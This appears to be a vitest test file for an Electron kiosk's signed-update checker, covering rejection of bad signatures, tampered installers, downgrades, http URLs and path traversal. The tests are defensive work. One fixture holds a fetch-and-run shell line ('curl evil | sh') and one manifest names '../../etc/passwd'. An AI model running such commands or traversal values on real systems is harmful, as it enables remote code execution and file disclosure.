// Signed updates (issue #15, finding 7): each way an update can be wrong is refused and names why.
// The test makes its own ed25519 key pair; the province's private key is never in the repository.
import { describe, expect, it, beforeEach, afterEach } from 'vitest';
import { generateKeyPairSync, sign } from 'node:crypto';
import { readFileSync, writeFileSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { compareVersions, updateUrlAllowed, verifyUpdateFolder, SIGNATURE_FILE, SIGNED_MANIFEST } from '../../../electron/core/updates/signature';
import { updatesSection } from '../../../electron/core/technician/config';
import { tempDir } from '../../support/temp-dir';
import { publishUpdate, type PublishOptions } from '../../support/update-stick';

const province = generateKeyPairSync('ed25519');
const stranger = generateKeyPairSync('ed25519');
const publicPem = province.publicKey.export({ type: 'spki', format: 'pem' }).toString();
const installer = Buffer.from('#!/bin/sh\necho kiosk 1.4.0\n');

let dir: { path: string; remove(): void };
beforeEach(() => (dir = tempDir('kiosk-update-')));
afterEach(() => dir.remove());

function publish(options: Partial<PublishOptions> = {}) {
  publishUpdate(dir.path, { key: province.privateKey, installer, fileName: 'Kiosk-1.4.0.AppImage', ...options });
}

describe('verifyUpdateFolder', () => {
  it('accepts a newer version signed by the province with a matching installer', async () => {
    publish();
    const check = await verifyUpdateFolder(dir.path, publicPem, '1.3.9');
    expect(check.ok && check.manifest.version).toBe('1.4.0');
  });
  it('refuses a missing signature', async () => {
    publish({ sign: false });
    expect(await verifyUpdateFolder(dir.path, publicPem, '1.3.9')).toMatchObject({ ok: false, reason: 'missing_signature' });
  });
  it('refuses a signature made with another key', async () => {
    publish({ key: stranger.privateKey });
    expect(await verifyUpdateFolder(dir.path, publicPem, '1.3.9')).toMatchObject({ ok: false, reason: 'bad_signature' });
  });
  it('refuses a manifest changed after signing', async () => {
    publish({ manifestEdit: (m) => (m.version = '9.9.9') });
    expect(await verifyUpdateFolder(dir.path, publicPem, '1.3.9')).toMatchObject({ ok: false, reason: 'bad_signature' });
  });
  it('refuses a tampered installer', async () => {
    publish({ file: Buffer.from('#!/bin/sh\ncurl evil | sh\n') });
    expect(await verifyUpdateFolder(dir.path, publicPem, '1.3.9')).toMatchObject({ ok: false, reason: 'tampered_file' });
  });
  it('refuses a downgrade and the same version', async () => {
    publish({ version: '1.2.0' });
    expect(await verifyUpdateFolder(dir.path, publicPem, '1.3.9')).toMatchObject({ ok: false, reason: 'downgrade' });
    publish({ version: '1.3.9' });
    expect(await verifyUpdateFolder(dir.path, publicPem, '1.3.9')).toMatchObject({ ok: false, reason: 'downgrade' });
  });
  it('refuses everything when the build carries no key', async () => {
    publish();
    expect(await verifyUpdateFolder(dir.path, undefined, '1.3.9')).toMatchObject({ ok: false, reason: 'no_key' });
  });
  it('refuses a missing installer and a manifest naming a path', async () => {
    publish();
    rmSync(join(dir.path, 'Kiosk-1.4.0.AppImage'));
    expect(await verifyUpdateFolder(dir.path, publicPem, '1.3.9')).toMatchObject({ ok: false, reason: 'missing_file' });
    const bytes = Buffer.from(JSON.stringify({ product: 'commune-kiosk', version: '1.4.0', file: '../../etc/passwd', sha512: 'A'.repeat(86) + '==', size: 1 }));
    writeFileSync(join(dir.path, SIGNED_MANIFEST), bytes);
    writeFileSync(join(dir.path, SIGNATURE_FILE), sign(null, bytes, province.privateKey).toString('base64'));
    expect(await verifyUpdateFolder(dir.path, publicPem, '1.3.9')).toMatchObject({ ok: false, reason: 'bad_manifest' });
  });
});

describe('update addresses', () => {
  it('refuses http: for the server, in the configuration and at check time', () => {
    expect(updateUrlAllowed('http://capnhat.thuvien.vn/kiosk/')).toBe(false);
    expect(updateUrlAllowed('https://capnhat.thuvien.vn/kiosk/')).toBe(true);
    expect(updateUrlAllowed('%%%')).toBe(false);
    expect(updatesSection.safeParse({ url: 'http://capnhat.thuvien.vn/kiosk/' }).success).toBe(false);
    expect(updatesSection.safeParse({ url: 'https://capnhat.thuvien.vn/kiosk/' }).success).toBe(true);
  });
  it('compares versions numerically', () => {
    expect(compareVersions('1.10.0', '1.9.3')).toBe(1);
    expect(compareVersions('1.2.0', '1.2.0')).toBe(0);
    expect(compareVersions('0.9', '1.0.0')).toBe(-1);
  });
});

describe('the main process cannot be thrown by a request path (finding 9)', () => {
  it('has no unguarded decodeURIComponent in electron/main', () => {
    for (const file of ['updater.ts', 'update-source.ts', 'browsing.ts', 'eresource-protocol.ts', 'main.ts']) {
      const text = readFileSync(join(__dirname, '../../../electron/main', file), 'utf8');
      expect(text.includes('decodeURIComponent('), file).toBe(false);
    }
  });
  it('sets the grantFileProtocolExtraPrivileges fuse off', () => {
    const builder = readFileSync(join(__dirname, '../../../electron-builder.yml'), 'utf8');
    const fuses = builder.slice(builder.indexOf('electronFuses:'));
    expect(fuses).toMatch(/^\s+grantFileProtocolExtraPrivileges: false$/m);
  });
});
